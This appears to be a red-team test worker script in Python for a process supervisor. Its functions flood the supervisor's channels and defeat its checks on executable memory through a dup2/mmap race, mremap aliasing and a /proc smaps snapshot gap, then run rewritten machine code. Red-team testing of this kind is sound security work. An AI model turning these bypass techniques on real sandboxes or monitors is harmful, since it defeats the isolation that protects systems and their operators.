"""Red-team worker (review only). args: ATTACK [PARAM...]. Prints 'RT {json}' lines."""
from __future__ import annotations

import ctypes
import json
import mmap
import os
import sys
import threading
import time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
_libc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
_libc.mremap.restype = ctypes.c_void_p
_libc.mremap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int)
PR, PW, PX = 1, 2, 4
MAP_SHARED, MAP_PRIVATE, MAP_ANON = 1, 2, 0x20
MAP_FAILED = ctypes.c_void_p(-1).value
PAGE = 4096


def out(**kw) -> None:
    print("RT " + json.dumps(kw, default=str), flush=True)


def code(val: int) -> bytes:
    return b"\xb8" + (val & 0xFFFFFFFF).to_bytes(4, "little") + b"\xc3"   # mov eax, imm32; ret


def call(addr: int) -> int:
    return ctypes.CFUNCTYPE(ctypes.c_int)(addr)()


def libfile() -> str:
    import glob
    return sorted(glob.glob("/usr/lib/x86_64-linux-gnu/libz.so.1.*"))[0]


def pingloop(ctx, seconds: float, tag: str = "") -> None:
    t_end = time.monotonic() + seconds
    while time.monotonic() < t_end:
        ctx.watchdog()
        time.sleep(0.02)


# ---------------------------------------------------------------- attacks

def flood_watch(ctx, secs="6", nthreads="3"):
    """Pre-READY: allowed exec-watch requests (memfd_create) in a tight loop from threads."""
    stop = time.monotonic() + float(secs)
    counts = []

    def worker():
        n = 0
        while time.monotonic() < stop:
            os.close(os.memfd_create("x"))
            n += 1
        counts.append(n)
    ts = [threading.Thread(target=worker) for _ in range(int(nthreads))]
    t0 = time.monotonic()
    [t.start() for t in ts]
    [t.join() for t in ts]
    out(attack="flood_watch", requests=sum(counts), secs=round(time.monotonic() - t0, 2))
    ctx.ready()
    pingloop(ctx, 5)


def status_flood(ctx, secs="6", nthreads="2"):
    ctx.ready()
    fd = ctx.status_fd
    stop = time.monotonic() + float(secs)
    blob = b"WATCHDOG=1\n" * 372
    counts = []

    def worker():
        n = 0
        while time.monotonic() < stop:
            os.write(fd, blob)
            n += 1
        counts.append(n)
    ts = [threading.Thread(target=worker) for _ in range(int(nthreads))]
    [t.start() for t in ts]
    [t.join() for t in ts]
    out(attack="status_flood", writes=sum(counts))
    pingloop(ctx, 5)


def output_flood(ctx, secs="6", nthreads="2"):
    ctx.ready()
    stop = time.monotonic() + float(secs)
    blob = (b"x" * 63 + b"\n") * 1024
    counts = []

    def worker():
        n = 0
        while time.monotonic() < stop:
            os.write(1, blob)
            n += 1
        counts.append(n)
    ts = [threading.Thread(target=worker) for _ in range(int(nthreads))]
    [t.start() for t in ts]
    [t.join() for t in ts]
    out(attack="output_flood", writes=sum(counts))
    pingloop(ctx, 5)


def toctou_memfd(ctx, mode="toggle"):
    """Pre-READY: mmap(fd N, RX, SHARED) while another thread swaps N between a read-only
    library and a memfd (dup2). After READY: rewrite the memfd and run the new code."""
    mfd = os.memfd_create("jit")
    os.write(mfd, code(1).ljust(PAGE, b"\xcc"))
    lib = os.open(libfile(), os.O_RDONLY)
    N = 100
    os.dup2(lib, N)
    stop = threading.Event()

    def toggler():
        while not stop.is_set():
            os.dup2(mfd, N)
            os.dup2(lib, N)
    t = threading.Thread(target=toggler)
    t.start()
    addr = _libc.mmap(None, PAGE, PR | PX, MAP_SHARED, N, 0)
    err = ctypes.get_errno()
    stop.set()
    t.join()
    if addr in (None, MAP_FAILED):
        out(attack="toctou_memfd", mapped=False, errno=err)
        return
    with open("/proc/self/maps") as f:
        line = [ln.strip() for ln in f if ln.startswith(f"{addr:x}-")]
    is_memfd = bool(line) and "memfd" in line[0]
    out(attack="toctou_memfd", phase="pre-ready", maps=line, got_memfd=is_memfd)
    if not is_memfd:
        os.close(N)
        ctx.ready()
        pingloop(ctx, 3)
        return
    ctx.ready()
    pingloop(ctx, 0.5)
    before = call(addr)
    os.pwrite(mfd, code(0x1337), 0)        # no syscall the watch sees
    after = call(addr)
    out(attack="toctou_memfd", phase="after-ready", ret_before=before, ret_after=hex(after))
    pingloop(ctx, 3)                      # give the maps scan a few rounds
    out(attack="toctou_memfd", phase="survived-scans", ret=hex(call(addr)))


def jit_alias(ctx):
    """jit_kernels worker: shared anonymous memory, aliased with mremap(old_size=0),
    one view made RX before READY; after READY new code is written via the RW view."""
    rw = _libc.mmap(None, PAGE, PR | PW, MAP_SHARED | MAP_ANON, -1, 0)
    ctypes.memmove(rw, code(7), 6)
    rx = _libc.mremap(rw, 0, PAGE, 1)      # MREMAP_MAYMOVE: a second mapping of the same shmem
    rc = _libc.mprotect(rx, PAGE, PR | PX)
    out(attack="jit_alias", rw=hex(rw), rx=hex(rx or 0), mprotect=rc, errno=ctypes.get_errno())
    ctx.ready()
    pingloop(ctx, 0.5)
    before = call(rx)
    ctypes.memmove(rw, code(0xBEEF), 6)
    after = call(rx)
    with open("/proc/self/maps") as f:
        lines = [ln.strip() for ln in f if ln.startswith((f"{rw:x}-", f"{rx:x}-"))]
    out(attack="jit_alias", phase="after-ready", ret_before=before, ret_after=hex(after), maps=lines)
    pingloop(ctx, 3)
    out(attack="jit_alias", phase="survived-scans", ret=hex(call(rx)))


def victim(ctx, *_):
    ctx.ready()
    while True:
        ctx.watchdog()
        time.sleep(0.02)


def ticker(ctx, *_):
    ctx.ready()
    n = 0
    while True:
        ctx.watchdog()
        n += 1
        if n % 5 == 0:
            print(f"tick {time.time():.3f}", flush=True)
        time.sleep(0.02)


ATTACKS = {f.__name__: f for f in (flood_watch, status_flood, output_flood, toctou_memfd,
                                   jit_alias, victim, ticker)}


def main(ctx) -> int:
    name, *params = sys.argv[1:]
    extra = globals().get("EXTRA", {})
    fn = ATTACKS.get(name) or extra[name]
    fn(ctx, *params)
    return 0


def smaps_stall(ctx, nmaps="60000", secs="6", nthreads="2"):
    """Pre-READY: many small mappings make each /proc/PID/smaps read (done in the trio
    thread for every mprotect judgement) slow; then allowed mprotect(PROT_EXEC) requests."""
    n = 0
    for i in range(int(nmaps)):
        a = _libc.mmap(None, PAGE, PR if i % 2 else PR | PW, MAP_PRIVATE | MAP_ANON, -1, 0)
        if a in (None, MAP_FAILED):
            break
        n += 1
    fd = os.open(libfile(), os.O_RDONLY)
    lib = _libc.mmap(None, PAGE, PR, MAP_PRIVATE, fd, 0)
    stop = time.monotonic() + float(secs)
    lat = []

    def worker():
        while time.monotonic() < stop:
            t = time.monotonic()
            rc = _libc.mprotect(lib, PAGE, PR | PX)
            lat.append((time.monotonic() - t, rc))
    ts = [threading.Thread(target=worker) for _ in range(int(nthreads))]
    [t.start() for t in ts]
    [t.join() for t in ts]
    out(attack="smaps_stall", mappings=n, requests=len(lat), max_wait_s=round(max(x for x, _ in lat), 3),
        rcs=sorted({r for _, r in lat}))
    ctx.ready()
    pingloop(ctx, 3)


ATTACKS["smaps_stall"] = smaps_stall


def smaps_hole(ctx, npad="40000", wait="0.3"):
    """Pre-READY, deterministic: mprotect(A, 2 pages, RX) where A is a pristine read-only
    libz page and A+4096 is a hole. /proc/PID/smaps is not an atomic snapshot: once the
    supervisor's read has passed A (the lowest mapping; thousands of padding mappings
    above it keep the read going), another thread maps a memfd into the hole. The
    supervisor judges only A; the kernel then applies RX to both pages."""
    pads = []
    for i in range(int(npad)):
        a = _libc.mmap(None, PAGE, PR if i % 2 else PR | PW, MAP_PRIVATE | MAP_ANON, -1, 0)
        if a in (None, MAP_FAILED):
            break
        pads.append(a)
    base = 0x100000000
    lib = os.open(libfile(), os.O_RDONLY)
    a0 = _libc.mmap(base, PAGE, PR, MAP_PRIVATE | 0x100000, lib, 0)     # MAP_FIXED_NOREPLACE
    mfd = os.memfd_create("payload")
    os.write(mfd, code(1).ljust(PAGE, b"\xcc"))
    started = threading.Event()
    res = {}

    def swapper():
        started.wait()
        time.sleep(float(wait))
        res["a1"] = _libc.mmap(base + PAGE, PAGE, PR, MAP_SHARED | 0x10, mfd, 0)   # MAP_FIXED, no PROT_EXEC
    t = threading.Thread(target=swapper)
    t.start()
    started.set()
    t0 = time.monotonic()
    rc = _libc.mprotect(base, 2 * PAGE, PR | PX)
    err = ctypes.get_errno()
    dt = time.monotonic() - t0
    t.join()
    for a in pads:
        _libc.munmap(ctypes.c_void_p(a), PAGE)
    with open("/proc/self/maps") as f:
        lines = [ln.strip() for ln in f if ln.startswith(("100000000-", "100001000-"))]
    out(attack="smaps_hole", pads=len(pads), a0=hex(a0 or 0), a1=hex(res.get("a1") or 0), mprotect=rc,
        errno=err, judged_s=round(dt, 3), maps=lines)
    if rc != 0:
        ctx.ready()
        pingloop(ctx, 2)
        return
    ctx.ready()
    pingloop(ctx, 0.5)
    before = call(base + PAGE)
    os.pwrite(mfd, code(0xC0DE), 0)
    after = call(base + PAGE)
    out(attack="smaps_hole", phase="after-ready", ret_before=before, ret_after=hex(after))
    pingloop(ctx, 3)
    os.pwrite(mfd, code(0xF00D), 0)
    out(attack="smaps_hole", phase="survived-scans", ret=hex(call(base + PAGE)))
    pingloop(ctx, 1)


_libc.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)
ATTACKS["smaps_hole"] = smaps_hole
